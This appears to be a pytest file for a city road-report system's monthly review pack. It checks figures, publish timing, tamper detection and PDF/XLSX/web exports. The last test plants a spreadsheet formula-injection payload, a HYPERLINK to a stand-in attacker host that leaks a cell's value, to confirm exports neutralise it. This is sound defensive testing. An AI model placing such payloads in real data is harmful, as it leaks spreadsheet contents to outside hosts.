"""Issue 22 acceptance c: the monthly review pack on a golden month (figures by hand)."""

from __future__ import annotations

import datetime as dt
import io
import json
import uuid
from typing import Any

import pytest
from pypdf import PdfReader
from sqlalchemy import delete, insert, select, text, update

from roadwatch.cli import main
from roadwatch.monthly import pack, render
from roadwatch.store import models
from roadwatch.web.spreadsheet import xlsx_row
from tests.support.ranking import add_report

CST = dt.timezone(dt.timedelta(hours=8))


def at(month: int, day: int, hour: int, year: int = 2026) -> dt.datetime:
    return dt.datetime(year, month, day, hour, tzinfo=CST)


@pytest.fixture
def golden(runtime: Any) -> dict[str, str]:
    segs = runtime.ctx.network.segments
    a_code = segs[0].district
    b_code = next(s.district for s in segs if s.district != a_code)
    a1, a2 = [s.id for s in segs if s.district == a_code][:2]
    b1 = next(s.id for s in segs if s.district == b_code)
    with runtime.engine.begin() as conn:
        # The runtime fixture empties the report tables; these are ours to empty.
        for table in (models.RankingDispute, models.Ranking, models.MonthlyReview):
            conn.execute(delete(table))
        # November 2026
        r1 = add_report(
            conn,
            a1,
            a_code,
            at(11, 3, 10),
            due_at=at(11, 3, 14),
            closed_at=at(11, 3, 12),
            case_status="closed",
        )
        conn.execute(update(models.Report).where(models.Report.id == r1).values(photos=["b" * 64]))
        conn.execute(
            insert(models.CaseMessage).values(
                id=str(uuid.uuid4()),
                kind="rectification",
                report_id=r1,
                reporter_id="x",
                received_at=at(11, 3, 12),
                done_at=at(11, 3, 12),
                photos=["c" * 64],
                raw=b"{}",
            )
        )
        r2 = add_report(
            conn,
            a1,
            a_code,
            at(11, 5, 9),
            due_at=at(11, 5, 13),
            closed_at=at(11, 6, 9),
            case_status="closed",
        )
        conn.execute(update(models.Report).where(models.Report.id == r2).values(escalation_level=1))
        # 04:00 on 1 November in the city, still 31 October in UTC: November's.
        add_report(conn, a2, a_code, dt.datetime(2026, 10, 31, 20, tzinfo=dt.UTC), category="E0102")
        add_report(conn, a2, a_code, at(11, 8, 8), case_status="duplicate")
        add_report(conn, b1, b_code, at(11, 10, 9), category="E0201", due_at=at(11, 11, 10))
        add_report(
            conn,
            b1,
            b_code,
            at(11, 20, 9),
            category="E0201",
            due_at=at(11, 22, 9),
            closed_at=at(11, 21, 9),
            case_status="closed",
        )
        # October 2026: a2 three times, a1 once
        for k in range(3):
            add_report(conn, a2, a_code, at(10, 10 + k, 10))
        add_report(conn, a1, a_code, at(10, 20, 10))
        # November 2025: b1 twice
        for k in range(2):
            add_report(conn, b1, b_code, at(11, 10 + k, 10, year=2025))
        # A published week starting in November (2026-W45, Monday 2 November).
        leagues = [
            {
                "kind": "segment",
                "district": a_code,
                "scores": [
                    {"id": a1, "flag": "red"},
                    {"id": a2, "flag": "black"},
                    {"id": "x", "flag": None},
                ],
            }
        ]
        conn.execute(
            insert(models.Ranking).values(
                week="2026-W45",
                formula_version="v1",
                formula_sha256="0" * 64,
                as_of=at(11, 9, 0),
                published_at=at(11, 9, 0),
                published_by="t",
                content=json.dumps({"leagues": leagues}),
                content_sha256="0" * 64,
                chain_sha256="0" * 64,
            )
        )
    return {"A": a_code, "B": b_code, "a1": a1, "a2": a2, "b1": b1}


def figures(content: dict[str, Any], code: str) -> dict[str, Any]:
    return next(a for a in content["areas"] if a["code"] == code)


def test_golden_month(runtime: Any, golden: dict[str, str]) -> None:
    month = pack.Month.parse("2026-11", runtime.settings.tz)
    with runtime.engine.connect() as conn:
        c = pack.compute(conn, month)
    a, b, city = figures(c, golden["A"]), figures(c, golden["B"]), figures(c, pack.CITY)
    assert a["figures"] == {
        "reports": 3,
        "closed": 2,
        "on_time": 1,
        "on_time_rate": 0.5,
        "overdue": 1,
        "escalations": 1,
        "recurred": 1,
        "recurrence_rate": 0.5,
        "red": 1,
        "black": 1,
    }
    assert b["figures"] == {
        "reports": 2,
        "closed": 1,
        "on_time": 1,
        "on_time_rate": 1.0,
        "overdue": 1,
        "escalations": 0,
        "recurred": 0,
        "recurrence_rate": 0.0,
        "red": 0,
        "black": 0,
    }
    assert city["figures"] == {
        "reports": 5,
        "closed": 3,
        "on_time": 2,
        "on_time_rate": 0.6667,
        "overdue": 2,
        "escalations": 1,
        "recurred": 1,
        "recurrence_rate": 0.3333,
        "red": 1,
        "black": 1,
    }
    assert a["vs_previous_month"]["reports"] == -1 and b["vs_previous_month"]["reports"] == 2
    assert city["vs_previous_month"]["reports"] == 1
    assert c["same_month_last_year"] == "2025-11"
    assert city["vs_last_year"]["reports"] == 3 and b["vs_last_year"]["reports"] == 0
    worst = c["segments"]["worst"]
    assert [w["segment"] for w in worst] == sorted([golden["a1"], golden["b1"]]) + [golden["a2"]]
    assert [(s["segment"], s["findings"], s["previous"]) for s in c["segments"]["best"]] == [
        (golden["a2"], 1, 3)
    ]
    a1 = next(w for w in worst if w["segment"] == golden["a1"])
    assert (a1["before_photo"], a1["after_photo"]) == ("b" * 64, "c" * 64)
    # October has no month a year before it with reports: no year-on-year trend.
    with runtime.engine.connect() as conn:
        october = pack.compute(conn, month.shift(-1))
    assert october["same_month_last_year"] is None
    assert figures(october, pack.CITY)["vs_last_year"] is None


def test_a_month_is_ready_when_the_last_ranking_of_its_weeks_is_frozen() -> None:
    tz = CST
    # November 2026 ends on a Monday's eve: W49 (30 Nov - 6 Dec) starts in it
    assert pack.ready_at(pack.Month.parse("2026-11", tz), 8) == at(12, 7, 8)
    # May 2026 ends on a Sunday: its last week ends with it, frozen at 08:00 on 1 June
    assert pack.ready_at(pack.Month.parse("2026-05", tz), 8) == at(6, 1, 8)
    # February 2026 ends on a Saturday: W09 (23 Feb - 1 Mar) is its last week
    assert pack.ready_at(pack.Month.parse("2026-02", tz), 0) == at(3, 2, 0)


def test_the_next_month_compares_with_the_month_as_its_pack_was_published(
    runtime: Any, golden: dict[str, str]
) -> None:
    """November's cases go on after its pack is frozen (reports a phone delivered late,
    cases closed as invalid): December's trends compare with what the leaders were given."""
    month = pack.Month.parse("2026-11", runtime.settings.tz)
    hours = runtime.settings.ranking_contest_hours
    pack.publish(runtime.engine, month, by="t", now=at(12, 7, 9), contest_hours=hours)
    with runtime.engine.connect() as conn:
        published = {
            a["code"]: a["figures"] for a in pack.compute(conn, month)["areas"]
        }  # as frozen: nothing changed yet
    with runtime.engine.begin() as conn:  # two November reports a phone delivered late
        for day in (28, 29):
            add_report(conn, golden["b1"], golden["B"], at(11, day, 9), category="E0201")
        add_report(conn, golden["b1"], golden["B"], at(12, 3, 9), category="E0201")
    with runtime.engine.connect() as conn:
        now_november = {a["code"]: a["figures"] for a in pack.compute(conn, month)["areas"]}
        december = pack.compute(conn, month.shift(1))
    assert now_november[pack.CITY]["reports"] == published[pack.CITY]["reports"] + 2
    city = next(a for a in december["areas"] if a["code"] == pack.CITY)
    assert city["vs_previous_month"]["reports"] == (
        city["figures"]["reports"] - published[pack.CITY]["reports"]
    )


def test_pdf_xlsx_publish_twice_and_tampering(
    runtime: Any,
    golden: dict[str, str],
    runner: Any,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Any,
) -> None:
    month = pack.Month.parse("2026-11", runtime.settings.tz)
    now = at(12, 7, 9)
    hours = runtime.settings.ranking_contest_hours
    with pytest.raises(pack.ReviewError, match="not ended"):
        pack.publish(runtime.engine, month, by="t", now=at(11, 30, 9), contest_hours=hours)
    # 2026-W49 starts on Monday 30 November: its flags are November's, and its ranking is
    # frozen at its cut-off on 7 December; a pack frozen before would miss them for good
    with pytest.raises(
        pack.ReviewError, match="from 2026-12-07 08:00: the weekly ranking of 2026-W49"
    ):
        pack.publish(runtime.engine, month, by="t", now=at(12, 2, 9), contest_hours=hours)
    first = pack.publish(runtime.engine, month, by="mayor-office", now=now, contest_hours=hours)
    again = pack.publish(
        runtime.engine,
        month,
        by="someone-else",
        now=now + dt.timedelta(days=1),
        contest_hours=hours,
    )
    assert first.created and not again.created
    assert (again.content_sha256, again.chain_sha256) == (first.content_sha256, first.chain_sha256)
    with runtime.engine.connect() as conn:
        rows = conn.execute(select(models.MonthlyReview)).all()
    assert len(rows) == 1 and rows[0].published_by == "mayor-office"
    assert pack.verify(runtime.engine, month) == []
    with pytest.raises(pack.ReviewError, match="in order"):
        pack.publish(runtime.engine, month.shift(-1), by="t", now=now, contest_hours=hours)

    content, meta = pack.load(runtime.engine, month)
    assert meta["published"] and content["published_by"] == "mayor-office"
    text = "".join(
        p.extract_text() for p in PdfReader(io.BytesIO(render.pdf(content, meta, tmp_path))).pages
    )
    assert "月讲评" in text and "全市" in text and "各区上报数" in text  # chart titles are text too
    assert "按时结案率" in text
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(render.xlsx(content, cells=xlsx_row)))
    sheet = wb["2026-11"]
    city = [r for r in sheet.iter_rows(values_only=True) if r[0] == "全市"][0]
    assert city[1:4] == (5, 3, 2)

    # The CLI reads the same frozen pack and verifies it.
    monkeypatch.setenv("ROADWATCH_DATABASE_URL", runtime.settings.database_url)
    out = tmp_path / "pack.pdf"
    r = runner.invoke(main, ["review", "--month", "2026-11", "--verify"])
    assert r.exit_code == 0 and "verified" in r.stdout
    r = runner.invoke(main, ["review", "--month", "2026-11", "--pdf", str(out), "--json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["published_by"] == "mayor-office"
    assert out.read_bytes().startswith(b"%PDF")

    # Tampering: one figure changed in the stored content.
    with runtime.engine.begin() as conn:
        conn.execute(
            update(models.MonthlyReview).values(
                content=rows[0].content.replace('"reports":5', '"reports":4')
            )
        )
    problems = pack.verify(runtime.engine, month)
    assert any("edited" in p for p in problems)
    r = runner.invoke(main, ["review", "--month", "2026-11", "--verify"])
    assert r.exit_code == 1 and "FAILED" in r.stdout


def test_pack_page_exports_and_publishing_on_the_web(
    runtime: Any, golden: dict[str, str], login_as: Any
) -> None:
    from roadwatch import clock

    staff = login_as("admin")
    page = staff.get("/reviews/2026-11")
    assert page.status_code == 200 and "草稿" in page.text and "<svg" in page.text
    assert "全市" in page.text and "/api/photos/" + "b" * 64 in page.text
    district = login_as("district_staff", golden["A"])
    assert district.post("/api/reviews/2026-11/publish").status_code == 403
    with clock.use(lambda: at(11, 30, 9)):
        assert staff.post("/api/reviews/2026-11/publish").status_code == 409
    with clock.use(lambda: at(12, 1, 9)):  # before the cut-off of 2026-W49, a week of November
        refused = staff.post("/api/reviews/2026-11/publish")
        assert (
            refused.status_code == 409 and "2026-W49" in refused.get_json()["errors"][0]["message"]
        )
    with clock.use(lambda: at(12, 7, 9)):
        res = staff.post("/api/reviews/2026-11/publish")
        assert res.status_code == 200 and res.get_json()["created"]
        again = staff.post("/api/reviews/2026-11/publish").get_json()
    assert not again["created"] and again["chain_sha256"] == res.get_json()["chain_sha256"]
    page = staff.get("/reviews/2026-11")
    assert "已发布" in page.text and res.get_json()["content_sha256"] in page.text
    assert staff.get("/api/reviews/2026-11/verify").get_json()["ok"]
    pdf = staff.get("/api/reviews/2026-11.pdf")
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
    xlsx = staff.get("/api/reviews/2026-11.xlsx")
    assert xlsx.status_code == 200 and xlsx.data.startswith(b"PK")
    assert staff.get("/api/reviews/2026-13").status_code == 404
    assert staff.application.test_client().get("/api/reviews/2026-11").status_code == 401


def test_formula_injection_in_segment_names_is_neutralised_in_the_pack_xlsx(
    runtime: Any, golden: dict[str, str], login_as: Any, tmp_path: Any, runner: Any
) -> None:
    """Road names come from OSM and the city's files: the pack's XLSX wrote the best and
    worst segments' names with openpyxl's guess, so `=HYPERLINK(…)` became a formula cell
    (docs/security.md: every XLSX goes through roadwatch/web/spreadsheet.py). Now the web
    download and the CLI's file write it as the text `'=HYPERLINK(…)`."""
    from openpyxl import load_workbook

    payload = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
    rename = text("UPDATE segments SET name = :n WHERE id = :id")
    with runtime.engine.begin() as conn:
        old = conn.execute(text("SELECT name FROM segments WHERE id = :id"), {"id": golden["a1"]})
        name = old.scalar_one()
        conn.execute(rename, {"n": payload, "id": golden["a1"]})
    try:
        res = login_as("admin").get("/api/reviews/2026-11.xlsx")
        assert res.status_code == 200
        out = tmp_path / "pack.xlsx"
        db = runtime.settings.database_url
        r = runner.invoke(
            main,
            ["review", "--month", "2026-11", "--xlsx", str(out)],
            env={"ROADWATCH_DATABASE_URL": db},
        )
        assert r.exit_code == 0, r.output
        for data in (res.data, out.read_bytes()):
            cells = [c for ws in load_workbook(io.BytesIO(data)) for row in ws for c in row]
            assert all(c.data_type != "f" for c in cells), "a formula cell in the pack"
            assert "'" + payload in [c.value for c in cells]
    finally:
        with runtime.engine.begin() as conn:
            conn.execute(rename, {"n": name, "id": golden["a1"]})
